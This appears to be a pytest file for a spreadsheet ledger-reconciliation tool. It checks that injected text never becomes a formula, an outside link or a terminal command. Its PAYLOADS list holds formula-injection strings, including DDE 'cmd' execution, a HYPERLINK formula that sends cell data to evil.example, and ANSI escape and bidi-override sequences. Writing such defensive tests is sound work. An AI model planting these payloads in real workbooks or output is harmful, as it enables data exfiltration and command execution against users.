"""Text stays text, whatever it begins with and wherever it stands: no formula, link or reference in a workbook, no command in a terminal."""

import csv
import html
import io
import json
import os
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote
from xml.etree import ElementTree

import odd
import pytest
from books import Grid, cover, write
from failing import command
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.utils.escape import unescape

from ledgerkit import audit, ledgers
from ledgerkit.errors import BadPolicy
from ledgerkit.locale import LANGS, Lang
from ledgerkit.model.plain import plain
from ledgerkit.model.report import Report
from ledgerkit.model.stamp import INDEX_SHEETS
from ledgerkit.model.text import FORMULA_STARTS
from ledgerkit.writing import wording
from ledgerkit.writing.masking import masked

PAYLOADS = (
    *("=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"see")', "=cmd|' /C calc'!A0", "{=1+1}", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－2+3", "＠SUM(1)", "file://evil.example/x.xlsx", "http://evil.example", "mailto:a@evil.example"),
    *("internal:'表1'!A1", "external:evil.xlsx", "[link=file:///etc]x[/link]", "[/x]", "[bold]x", "<script>x</script>", "]]><f>1+1</f>", "_x0041_"),
    *("\x1b[2J\x1b]8;;http://evil.example\x07x", "\x9b2Jx", "\u202edeggalf", "\u2066x\u2069", "\u200fx", "\u061cx", "&A&P", "'=1+1", "{0} {file}", "%s"),
)  # fmt: skip
IN_SHEET_NAMES = ("=1+1", "{=1+1}", "+1+1", "-2+3", "@SUM(1)", "＝1+1", "\u202ex", "<f>1<f>", "a'b#c!A1")
IN_FILE_NAMES = (
    "=1+1",
    "+1",
    "-x",
    "@x",
    "a#b%23c",
    "50%",
    "{0}",
    *(("\x1b[2Jx", "\u202ex", "mailto:a@evil.example", "a?b\\c", "x\ny") if os.name == "posix" else ()),
)
COMMANDS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SPARED = "字"


def ledger_sheet(name: str, payloads: tuple[str, ...]) -> Grid:
    """Every column of a ledger and one of nobody's: rows with a payload in each text column, rows with one in every column."""
    fields, first = ledgers.load(name).fields, 5 * ledgers.ORDER.index(name)
    texts = [field.type == "text" for field in fields]

    def row(number: int, spoilt: list[bool]) -> list[str]:
        return ["'" + payloads[(first + 7 * number + at) % len(payloads)] if nasty else "" for at, nasty in enumerate([*spoilt, True])]

    head = [*(field.zh for field in fields), "'" + payloads[first % len(payloads)]]
    return [head, *(row(number, texts) for number in range(5)), *(row(number, [True] * len(fields)) for number in range(5, 9))]


def put(folder: Path, payloads: tuple[str, ...], sheets: tuple[str, ...], files: tuple[str, ...]) -> Path:
    """Books with these texts in every ledger, on every cover, in sheet and file names, in comments."""
    names = iter(sheets * len(ledgers.ORDER))
    for at, (file, ledger) in enumerate(zip(files * len(ledgers.ORDER), ledgers.ORDER, strict=False)):
        text = payloads[at % len(payloads)]
        pages = {
            "封面": cover(branch_code="B1", year="2015", branch="'" + text.replace("|", "").replace("\n", ""), date="2015-12-31d"),
            next(names): ledger_sheet(ledger, payloads),
        }
        path = write(folder / f"{file}{at}.xlsx", pages)
        opened = load_workbook(path)
        opened.worksheets[1]["B2"].comment = Comment(unescape(text).translate(dict.fromkeys(range(32))), "=author")
        opened.save(path)
    return folder


@dataclass(frozen=True)
class Run:
    """What was written and printed."""

    folder: Path

    @property
    def books(self) -> Path:
        return self.folder / "books"

    def summary(self, lang: Lang) -> Path:
        return self.folder / f"{lang}.xlsx"


POLICY = """
[unit]
name = {text}
year = 2015
[[waivers]]
rule = "G013"
key = [{text}]
reason = {text}
asked_by = {text}
approved_by = "某"
until = 2030-01-01
"""


def made(folder: Path, payloads: tuple[str, ...], sheets: tuple[str, ...], files: tuple[str, ...], langs: tuple[Lang, ...] = LANGS) -> Run:
    run = Run(folder)
    put(run.books, payloads, sheets, files)
    (folder / "own.toml").write_text(POLICY.format(text=json.dumps(payloads[0])), "utf-8")
    for lang in langs:
        line = ["reconcile", str(run.books), "-o", str(run.summary(lang)), "--policy", str(folder / "own.toml"), "--lang", lang, "--unmask"]
        code, printed, said = command(line, lang)
        assert (code, said) == (1, ""), said
        assert not COMMANDS.search(printed)
    return run


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return made(tmp_path_factory.mktemp("nasty"), PAYLOADS, IN_SHEET_NAMES, IN_FILE_NAMES)


@pytest.fixture(scope="module")
def report(run: Run) -> Report:
    return audit.reconcile([run.books], audit.Options(run.folder / "own.toml"))


@pytest.fixture(scope="module")
def validated(run: Run) -> Report:
    return masked(audit.validate([run.books]))


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return made(tmp_path_factory.mktemp("harmless"), (SPARED,) * len(PAYLOADS), (SPARED,), (SPARED,), ("en",))


def parts(path: Path) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                yield name, package.read(name).decode("utf-8")


def formulas(path: Path) -> set[tuple[str, str]]:
    """Every formula of a workbook, cells' and checks' and charts' and names', with its part; numbers left out."""
    found = set()
    for name, xml in parts(path):
        for formula in re.findall(r"<(?:\w+:)?(?:f|formula\d?|definedName)(?: [^>]*)?>([^<]*)<", xml):
            found.add((name, re.sub(r"\d+", "#", html.unescape(formula))))
    return found


def test_the_summary_has_the_formulas_of_harmless_books_and_no_other(run: Run, harmless: Run) -> None:
    assert formulas(run.summary("en")) == formulas(harmless.summary("en"))
    assert any("SUMIFS" in formula for _, formula in formulas(run.summary("en")))


@pytest.mark.parametrize("lang", LANGS)
def test_the_summary_refers_to_the_books_and_nothing_else(lang: Lang, run: Run) -> None:
    names = {f"{file}{at}.xlsx" for at, file in enumerate(IN_FILE_NAMES[: len(ledgers.ORDER)])}
    names |= {path.name for path in run.books.iterdir()}
    targets = set()
    for name, xml in parts(run.summary(lang)):
        assert not re.search("externalLink|ddeLink|oleLink|connections|webPublish|<oleObject", xml + name)
        targets |= set(re.findall(r'Target="([^"]*)" TargetMode="External"', xml))
    assert targets
    for target in targets:
        assert re.fullmatch(r"books\\[^:?#\\/]+", target), target
        assert unquote(target.replace("&amp;", "&").removeprefix("books\\")) in names


@pytest.mark.parametrize("lang", LANGS)
def test_every_text_is_read_back_as_it_was(lang: Lang, run: Run, report: Report) -> None:
    sheet = load_workbook(run.summary(lang)).worksheets[1]
    assert len(report.findings) > 100
    for row, finding in enumerate(report.unwaived, 4):
        for column, value in (("J", finding.observed), ("K", finding.expected)):
            cell = sheet[f"{column}{row}"]
            assert unescape(str(cell.value or "")) == wording.shown(finding, value, lang).replace("\r\n", "\n"), finding
            assert cell.data_type in "sn"
        assert sheet[f"L{row}"].data_type == "s"
    texts = {unescape(str(cell.value)) for row in sheet.iter_rows(min_row=4, min_col=10, max_col=10) for cell in row if cell.value}
    assert {text for text in PAYLOADS if text.isprintable() and text[0] in "=+@{["} <= texts


def test_no_cell_of_the_csv_begins_a_formula(run: Run) -> None:
    code, printed, _ = command(["reconcile", str(run.books), "-o", str(run.folder / "c.xlsx"), "--format", "csv", "--lang", "en"])
    head, *rows = csv.reader(io.StringIO(printed.removeprefix("\ufeff"), newline=""))
    assert (code, len(rows) > 100) == (1, True)
    guarded = 0
    for row in rows:
        for column, cell in zip(head, row, strict=True):
            guarded += cell.startswith("'")
            assert not cell.startswith(FORMULA_STARTS) or (column == "amount" and re.fullmatch(r"-\d+\.\d\d", cell)), (column, cell)
    assert guarded > 50


def test_json_says_all_and_commands_no_terminal(run: Run) -> None:
    _, printed, said = command(["validate", str(run.books), "--format", "json", "--lang", "en", "--unmask"])
    assert (COMMANDS.search(printed), said) == (None, "")
    texts = {finding["observed"] for finding in json.loads(printed)["findings"]}
    assert {"=1+1", "-2+3", "[/x]"} <= texts
    assert "\\u202e" in printed


@pytest.mark.parametrize("lang", LANGS)
def test_annotated_copies_hold_no_formula_and_no_link_out(lang: Lang, run: Run, validated: Report, tmp_path: Path) -> None:
    code, printed, said = command(["validate", str(run.books), "--annotate", str(tmp_path / "copies"), "--lang", lang], lang)
    assert (code, COMMANDS.search(printed), said) == (1, None, "")
    copies = sorted((tmp_path / "copies").iterdir())
    assert len(copies) == len(ledgers.ORDER)
    for copy in copies:
        assert formulas(copy) <= {("xl/workbook.xml", f"'{INDEX_SHEETS[lang]}'!$A$#")}
        assert not [name for name, xml in parts(copy) if 'TargetMode="External"' in xml]
        opened = load_workbook(copy)
        index = opened.worksheets[-1]
        said_there = [unescape(str(row[5].value or "")) for row in index.iter_rows(min_row=6) if row[1].value]
        findings = [finding for finding in validated.findings if finding.file == copy.name]
        shown = [re.sub("[\x00-\x08\x0b-\x1f\x7f]", " ", wording.shown(f, f.observed, lang)) for f in findings]
        assert said_there[-len(shown) :] == shown
        assert {cell.data_type for row in index.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}


def test_error_sentences_are_one_line_that_commands_no_terminal(tmp_path: Path) -> None:
    for text in ("\x1b[2Jx", "\u202ex", "a\nb", "[/x]"):
        for line in (["validate", str(tmp_path / text)], ["rules", text], ["validate", str(tmp_path), "--year", text], [text]):
            code, printed, said = command(line)
            assert (code, printed, said.count("\n"), COMMANDS.search(said)) == (2, "", 1, None), (line, said)
            assert plain(text).split()[-1] in said


def test_a_policy_that_is_no_policy_commands_no_terminal(run: Run, tmp_path: Path) -> None:
    (tmp_path / "own.toml").write_text('"\\u001b[2J\\u202e" = 1\n', "utf-8")
    with pytest.raises(BadPolicy):
        audit.validate([run.books], audit.Options(tmp_path / "own.toml"))
    code, _, said = command(["validate", str(run.books), "--policy", str(tmp_path / "own.toml")])
    assert (code, said.count("\n"), COMMANDS.search(said)) == (2, 1, None)


def test_a_unit_and_budget_lines_with_control_characters_make_a_whole_workbook(tmp_path: Path) -> None:
    """Their names stand at the head of printed pages and in a chart, where xlsxwriter escapes nothing."""
    rows = [{"code": "50204", "title": "'困难\x01\ufffe补助", "direction": "支出", "approved": "#50000"}]
    path = Path(str(odd.book(odd.sheet("budget", rows=rows))(tmp_path, "b")))
    (tmp_path / "own.toml").write_text('[unit]\nname = "\\u001b[2J&A=1+1"\nyear = 2015\n', "utf-8")
    code, _, said = command(
        ["reconcile", str(path), "-o", str(tmp_path / "s.xlsx"), "--policy", str(tmp_path / "own.toml"), "--lang", "en"]
    )
    assert (code in (0, 1), said) == (True, "")
    assert {name for name, xml in parts(tmp_path / "s.xlsx") if not ElementTree.fromstring(xml)} == set()
    opened = load_workbook(tmp_path / "s.xlsx")
    assert opened.worksheets[0].oddHeader.right.text == " [2J&&A=1+1: audit summary 2015"
    # U+FFFE, which no XML holds, stands as its code in the source already, and is text.
    assert unescape(opened["Budget"]["B4"].value) == "困难\x01_xFFFE_补助"
